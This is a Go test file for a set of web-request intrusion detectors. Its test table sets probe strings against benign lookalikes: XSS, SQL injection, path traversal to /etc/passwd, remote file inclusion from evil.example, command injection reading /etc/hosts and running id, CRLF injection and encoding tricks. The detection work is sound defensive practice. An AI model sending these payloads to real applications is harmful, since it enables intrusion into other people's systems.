package appsensor

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"picket/triage"
)

var t0 = time.Date(2026, 11, 3, 12, 0, 0, 0, time.UTC)

// req builds an APM-like event.
func req(t *testing.T, id string, at time.Duration, ip, method, original string, extra string) *triage.Event {
	t.Helper()
	doc := fmt.Sprintf(`{"@timestamp":%q,"event":{"id":%q},"source":{"ip":%q},"user_agent":{"original":"ua"},"http":{"request":{"method":%q%s}},"url":{"original":%q}}`,
		t0.Add(at).Format(time.RFC3339Nano), id, ip, method, extra, original)
	ev, err := triage.ParseEvent([]byte(doc), "test:1")
	if err != nil {
		t.Fatalf("%s: %v", doc, err)
	}
	return ev
}

func detector(id string) triage.Detector {
	for _, d := range Detectors(Options{ExtraMethods: []string{"PROPPATCH"}}) {
		if d.Info().ID == id {
			return d
		}
	}
	panic("no detector " + id)
}

func runOne(d triage.Detector, evs ...*triage.Event) []triage.Finding {
	var out []triage.Finding
	emit := func(f triage.Finding) { out = append(out, f) }
	for _, ev := range evs {
		d.Observe(ev, emit)
	}
	d.Flush(emit)
	return out
}

func TestPointsSingleRequest(t *testing.T) {
	tests := []struct {
		det      string
		method   string
		url      string
		extra    string
		hit      bool
		inReason string
	}{
		// RE2
		{"appsensor:RE2", "GET", "/", "", false, ""},
		{"appsensor:RE2", "OPTIONS", "/api/cart", "", false, ""}, // CORS preflight
		{"appsensor:RE2", "HEAD", "/healthz", "", false, ""},
		{"appsensor:RE2", "PATCH", "/api/cart/1", "", false, ""},
		{"appsensor:RE2", "get", "/", "", false, ""},       // ECS < 1.6 lower-cased methods
		{"appsensor:RE2", "PROPPATCH", "/", "", false, ""}, // configured extra
		{"appsensor:RE2", "PROPFIND", "/", "", true, "method PROPFIND"},
		{"appsensor:RE2", "GETS", "/", "", true, "method GETS"},
		{"appsensor:RE2", "X\u001b[2J", "/", "", true, `method X\x1b[2J`},
		{"appsensor:RE2", "", "/", "", false, ""}, // not an HTTP event
		// CIE3
		{"appsensor:CIE3", "GET", "/download?file=report.pdf%00.jpg", "", true, "query parameter file: report.pdf%00.jpg"},
		{"appsensor:CIE3", "GET", "/files/a%00.txt", "", true, "%00 in path"},
		{"appsensor:CIE3", "GET", "/x?a%00b=1", "", true, "query parameter name"},
		{"appsensor:CIE3", "GET", "/download?file=report%2500", "", false, ""}, // double-encoded: EE1's business
		{"appsensor:CIE3", "GET", "/search?q=100%25", "", false, ""},
		{"appsensor:CIE3", "GET", "/x?f=%0", "", false, ""}, // truncated escape
		// CIE4
		{"appsensor:CIE4", "GET", "/redirect?url=%0d%0aSet-Cookie:x", "", true, "query parameter url"},
		{"appsensor:CIE4", "GET", "/redirect?url=%0A", "", true, "CR/LF"},
		{"appsensor:CIE4", "GET", "/a%0d%0ab", "", true, "in path"},
		{"appsensor:CIE4", "GET", "/search?q=a+b%2Bc", "", false, ""},
		{"appsensor:CIE4", "GET", "/redirect?url=%250d%250a", "", false, ""},
		{"appsensor:CIE4", "POST", "/contact", `,"body":{"original":"message=hi%0D%0Athere"}`, false, ""}, // multi-line form body is normal
		// IE1
		{"appsensor:IE1", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", true, "XSS probe in query parameter q"},
		{"appsensor:IE1", "GET", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dprompt(1)%3E", "", true, "XSS"},
		{"appsensor:IE1", "GET", "/go?to=javascript:alert(document.domain)", "", true, "XSS"},
		{"appsensor:IE1", "POST", "/review", `,"headers":{"Content-Type":["application/json"]},"body":{"original":"{\"text\":\"<svg/onload=alert(1)>\"}"}`, true, "JSON field text"},
		{"appsensor:IE1", "GET", "/search?q=i+%3C3+tea", "", false, ""},
		{"appsensor:IE1", "GET", "/search?q=O%27Reilly", "", false, ""},
		{"appsensor:IE1", "GET", "/search?q=a+%3C+b+and+c+%3E+d", "", false, ""},
		{"appsensor:IE1", "GET", "/search?q=one+online+store", "", false, ""},
		{"appsensor:IE1", "GET", "/?utm_source=news&utm_medium=email&utm_campaign=black-friday&gclid=Cj0KCQiA", "", false, ""},
		// CIE1
		{"appsensor:CIE1", "GET", "/products?id=1%27+OR+%271%27%3D%271", "", true, "SQL injection in query parameter id"},
		{"appsensor:CIE1", "GET", "/products?id=1+union+all+select+null,null--", "", true, "SQL injection"},
		{"appsensor:CIE1", "POST", "/login", `,"headers":{"Content-Type":["application/x-www-form-urlencoded"]},"body":{"original":"username=admin%27--&password=[REDACTED]"}`, true, "form field username"},
		{"appsensor:CIE1", "GET", "/search?q=O%27Reilly", "", false, ""},
		{"appsensor:CIE1", "GET", "/search?q=union+station+select+drop", "", false, ""},
		{"appsensor:CIE1", "GET", "/search?q=50%25+off", "", false, ""},
		{"appsensor:CIE1", "GET", "/products/123?ref=home&sort=price-desc", "", false, ""},
		// IE3
		{"appsensor:IE3", "GET", "/download?file=../../../../etc/passwd", "", true, "path traversal in query parameter file"},
		{"appsensor:IE3", "GET", "/static/..%2f..%2f..%2fetc/passwd", "", true, "path traversal in path"},
		{"appsensor:IE3", "GET", "/page?inc=http://evil.example/shell.txt?", "", true, "remote file inclusion"},
		{"appsensor:IE3", "GET", "/page?inc=php://filter/resource=index", "", true, "remote file inclusion"},
		{"appsensor:IE3", "GET", "/ping?host=127.0.0.1%3Bcat+/etc/hosts", "", true, "in query parameter host"},
		{"appsensor:IE3", "GET", "/ping?host=x%7C/usr/bin/id", "", true, "command injection"},
		{"appsensor:IE3", "GET", "/go?next=https://shop.example/cart", "", false, ""},
		{"appsensor:IE3", "GET", "/search?q=rock+%26+roll%3B+live", "", false, ""},
		// RE8
		{"appsensor:RE8", "GET", "/search?q=a%01b", "", true, "control character 0x01"},
		{"appsensor:RE8", "GET", "/search?q=a%1bb", "", true, "0x1b"},
		{"appsensor:RE8", "POST", "/contact", `,"body":{"original":"message=line1%0D%0Aline2%09tabbed"}`, false, ""},
		{"appsensor:RE8", "GET", "/search?q=caf%C3%A9", "", false, ""},
		{"appsensor:RE8", "GET", "/x?a=%00", "", false, ""}, // CIE3's
		// EE1
		{"appsensor:EE1", "GET", "/search?q=%253Cscript%253E", "", true, "double-encoded %253C"},
		{"appsensor:EE1", "GET", "/x/%252e%252e/y", "", true, "in path"},
		{"appsensor:EE1", "GET", "/search?q=50%25+off", "", false, ""},
		{"appsensor:EE1", "GET", "/search?q=100%25", "", false, ""},
		// EE2
		{"appsensor:EE2", "GET", "/search?q=%u003cscript%u003e", "", true, "%u escape"},
		{"appsensor:EE2", "GET", "/files/%c0%ae%c0%ae/etc", "", true, "overlong UTF-8"},
		{"appsensor:EE2", "GET", "/search?q=%2BADw-script%2BAD4-", "", true, "UTF-7"},
		{"appsensor:EE2", "GET", "/search?q=%E2%9C%93+done", "", false, ""},
		// FIO1
		{"appsensor:FIO1", "POST", "/upload", `,"headers":{"Content-Length":["52428800"]}`, true, "52428800-byte body"},
		{"appsensor:FIO1", "POST", "/upload", `,"body":{"bytes":2048}`, false, ""},
	}
	for _, tt := range tests {
		t.Run(tt.det+" "+tt.method+" "+tt.url, func(t *testing.T) {
			ev := req(t, "e1", 0, "203.0.113.9", tt.method, tt.url, tt.extra)
			got := runOne(detector(tt.det), ev)
			if !tt.hit {
				if len(got) != 0 {
					t.Fatalf("false positive: %+v", got)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("want 1 finding, got %d", len(got))
			}
			f := got[0]
			if f.Detector != tt.det || len(f.Evidence) != 1 || f.Evidence[0].ID != "e1" || f.SourceIP.String() != "203.0.113.9" || f.UserAgent != "ua" {
				t.Errorf("finding = %+v", f)
			}
			if !strings.Contains(f.Reason, tt.inReason) || strings.ContainsAny(f.Reason, "\x1b\r\n") {
				t.Errorf("reason %q lacks %q or holds control characters", f.Reason, tt.inReason)
			}
			if !f.Timestamp.Equal(t0) {
				t.Errorf("timestamp %v", f.Timestamp)
			}
		})
	}
}

func TestBurstsMergePerActor(t *testing.T) {
	d := detector("appsensor:RE2")
	evs := []*triage.Event{
		req(t, "a1", 0, "203.0.113.1", "PROPFIND", "/", ""),
		req(t, "b1", 30*time.Second, "203.0.113.2", "TRACK", "/", ""),
		req(t, "a2", time.Minute, "203.0.113.1", "DEBUG", "/", ""),
		req(t, "ok", 2*time.Minute, "203.0.113.1", "GET", "/", ""),
		req(t, "a3", 5*time.Minute, "203.0.113.1", "PROPFIND", "/", ""),
		// 203.0.113.1 pauses longer than the gap: a new finding.
		req(t, "a4", 40*time.Minute, "203.0.113.1", "PROPFIND", "/", ""),
		req(t, "late", 41*time.Minute, "203.0.113.3", "GET", "/", ""),
	}
	got := runOne(d, evs...)
	if len(got) != 3 {
		t.Fatalf("want 3 findings, got %d: %+v", len(got), got)
	}
	byFirst := map[string]triage.Finding{}
	for _, f := range got {
		byFirst[f.Evidence[0].ID] = f
	}
	a := byFirst["a1"]
	if strings.Join(a.EventIDs(), ",") != "a1,a2,a3" || a.EventCount != 3 {
		t.Errorf("burst a = %v", a.EventIDs())
	}
	if !a.Timestamp.Equal(t0) || !a.End.Equal(t0.Add(5*time.Minute)) {
		t.Errorf("burst a spans %v..%v", a.Timestamp, a.End)
	}
	if !strings.Contains(a.Reason, "PROPFIND") || !strings.Contains(a.Reason, "DEBUG") || !strings.Contains(a.Reason, "3 requests over 5m") {
		t.Errorf("reason %q", a.Reason)
	}
	if f := byFirst["a4"]; len(f.Evidence) != 1 || !f.End.IsZero() {
		t.Errorf("second burst = %+v", f)
	}
	if f := byFirst["b1"]; len(f.Evidence) != 1 {
		t.Errorf("other actor = %+v", f)
	}
	// The first burst closed when time passed, before the stream ended.
	if got[0].Evidence[0].ID != "b1" && got[0].Evidence[0].ID != "a1" {
		t.Errorf("order: %v first", got[0].EventIDs())
	}
}

func TestBurstDetailsCapped(t *testing.T) {
	d := detector("appsensor:RE2")
	var evs []*triage.Event
	for i := range 6 {
		evs = append(evs, req(t, fmt.Sprint(i), time.Duration(i)*time.Second, "203.0.113.1", fmt.Sprintf("M%d", i), "/", ""))
	}
	got := runOne(d, evs...)
	if len(got) != 1 || strings.Count(got[0].Reason, "method M") != maxDetails || !strings.Contains(got[0].Reason, "and more") {
		t.Errorf("got %+v", got)
	}
}

func TestDecodeOnce(t *testing.T) {
	tests := []struct {
		in   string
		plus bool
		want string
	}{
		{"a%20b", false, "a b"},
		{"a+b", true, "a b"},
		{"a+b", false, "a+b"},
		{"%2500", true, "%00"},
		{"%zz%", true, "%zz%"},
		{"%4", true, "%4"},
		{"%e2%9c%93", true, "✓"},
		{"%0D%0a", true, "\r\n"},
	}
	for _, tt := range tests {
		if got := decodeOnce(tt.in, tt.plus); got != tt.want {
			t.Errorf("decodeOnce(%q, %v) = %q, want %q", tt.in, tt.plus, got, tt.want)
		}
	}
}

func TestRequestPartsPrefersOriginal(t *testing.T) {
	// The agent stored a decoded url.path; url.original keeps the probe.
	ev, err := triage.ParseEvent([]byte(`{"url":{"path":"/a.txt","original":"/a%00.txt?x=1&&y"}}`), "t:1")
	if err != nil {
		t.Fatal(err)
	}
	parts := requestParts(ev)
	var got []string
	for _, p := range parts {
		got = append(got, p.Label()+"="+p.Raw)
	}
	want := "path=/a%00.txt query parameter name=x query parameter x=1 query parameter name=y query parameter y="
	if strings.Join(got, " ") != want {
		t.Errorf("parts = %q", strings.Join(got, " "))
	}
}

func TestInfos(t *testing.T) {
	for _, d := range Detectors(Options{}) {
		i := d.Info()
		if !strings.HasPrefix(i.ID, "appsensor:") || i.Title == "" || i.Summary == "" || i.Readiness != triage.RunsLocally || i.RiskScore <= 0 {
			t.Errorf("incomplete info %+v", i)
		}
	}
}
